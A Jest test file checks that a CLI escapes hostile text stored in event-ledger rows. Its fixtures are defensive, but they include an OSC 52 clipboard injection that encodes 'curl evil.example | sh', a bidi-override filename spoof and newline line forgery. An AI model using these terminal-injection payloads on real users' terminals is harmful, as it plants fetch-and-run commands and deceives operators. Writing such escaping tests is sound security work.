import { DynamoDBClient } from '@aws-sdk/client-dynamodb';
import { DynamoDBDocumentClient, PutCommand } from '@aws-sdk/lib-dynamodb';
import { EVENT_STATUS, listDayOf } from '../../lambda/shared/ledger-schema';
import { localClientConfig } from '../../local/aws';
import { runBin } from '../support/cli';
import { cliEnvironment } from './support/cli-env';
import { fptBody, type Harness, newEventId, startHarness } from './support/harness';

jest.setTimeout(60_000);

/** OSC 52 writes the terminal's clipboard; the C1 CSI and the bidi override act without an ESC. */
const OSC52 = '\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007';
const HOSTILE = `${OSC52}\u009b2J\u202egnp.exe\u007f`;
/** What the operator's terminal receives must hold none of these. */
// biome-ignore lint/suspicious/noControlCharactersInRegex: the characters a terminal acts on, which output must not hold.
const ACTIVE = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

describe('CLI output of stored text on a terminal', () => {
  let harness: Harness;
  let env: Record<string, string>;
  let failing = '';
  const planted = newEventId();

  beforeAll(async () => {
    harness = await startHarness({
      name: 'terminal-safe',
      visibilityTimeoutSeconds: 30,
      countHandlerCalls: true,
      // A handler that names its error after payload data: the processor stores the name as lastError.
      behaviour: (event) => {
        if (event.eventId === failing) throw Object.assign(new Error('x'), { name: HOSTILE });
      },
    });
    env = cliEnvironment(harness);
    const body = fptBody('contact.updated');
    failing = (JSON.parse(body) as { eventId: string }).eventId;
    expect((await harness.deliver(body)).status).toBe(202);
    await harness.waitForStatus(failing, EVENT_STATUS.failed);

    // A row with hostile names and values anywhere, as anyone who can write the table could leave it.
    const client = DynamoDBDocumentClient.from(new DynamoDBClient(localClientConfig(harness.emulatorUrl)));
    const plantedAt = Date.now() + 60_000;
    await client.send(
      new PutCommand({
        TableName: harness.running.stack.tableName,
        Item: {
          pk: planted,
          status: EVENT_STATUS.failed,
          eventType: `contact.${HOSTILE}`,
          subscription: `default\nstatus          processed`,
          receivedAt: plantedAt,
          // In the list index, as every row the receiver writes.
          listDay: listDayOf(plantedAt),
          attempts: 1,
          [`note${OSC52}`]: HOSTILE,
        },
      }),
    );
    client.destroy();
  });
  afterAll(async () => {
    await harness?.stop();
  });

  it('escapes a handler error name holding OSC 52, C1 and bidi controls in events get', async () => {
    const result = await runBin(['events', 'get', failing, '--local'], '', env);

    expect(result.code).toBe(0);
    expect(result.stdout).not.toMatch(ACTIVE);
    expect(result.stdout).toMatch(/^lastError\s+\\u001b\]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\u0007/m);
    expect(result.stdout).toContain('\\u009b2J\\u202egnp.exe\\u007f');
  });

  it('escapes hostile attribute names and values, and keeps an embedded newline from forging a line', async () => {
    const result = await runBin(['events', 'get', planted, '--local'], '', env);

    expect(result.code).toBe(0);
    expect(result.stdout).not.toMatch(ACTIVE);
    const lines = result.stdout.trimEnd().split('\n');
    expect(lines.filter((line) => line.startsWith('status'))).toEqual([
      expect.stringMatching(/^status\s+failed$/),
    ]);
    expect(lines).toContainEqual(expect.stringMatching(/^subscription\s+default\\u000astatus +processed$/));
    expect(lines).toContainEqual(expect.stringMatching(/^note\\u001b\]52;c;\S+\\u0007\s+\\u001b\]52;/));
  });

  it('escapes stored text in the events list table, one row per event', async () => {
    const result = await runBin(['events', 'list', '--local', '--status', 'failed'], '', env);

    expect(result.code).toBe(0);
    expect(result.stdout).not.toMatch(ACTIVE);
    const lines = result.stdout.trimEnd().split('\n');
    // Header, the two failed events, the summary: the newline in a subscription did not add a row.
    expect(lines).toHaveLength(4);
    expect(lines[1]).toContain(`contact.\\u001b]52;c;`);
    expect(lines[1]).toContain('default\\u000astatus');
  });

  it.each<[string, () => string[], Record<string, unknown>]>([
    ['events get', () => ['events', 'get', planted, '--local', '--json'], { [`note${OSC52}`]: HOSTILE }],
    // events list projects known attributes only.
    ['events list', () => ['events', 'list', '--local', '--status', 'failed', '--json'], {}],
  ])(
    'keeps %s --json exact: it parses to the stored strings, with no active character on the terminal',
    async (command, args, extra) => {
      const result = await runBin(args(), '', env);

      expect(result.code).toBe(0);
      expect(result.stdout).not.toMatch(ACTIVE);
      // events get prints one object; events list one object per line.
      const parsed = (command === 'events list' ? result.stdout.trim().split('\n') : [result.stdout]).map(
        (text) => JSON.parse(text) as Record<string, unknown>,
      );
      const row = parsed.find((r) => r.eventId === planted);
      expect(row).toMatchObject({
        eventId: planted,
        eventType: `contact.${HOSTILE}`,
        subscription: 'default\nstatus          processed',
        ...extra,
      });
    },
  );
});
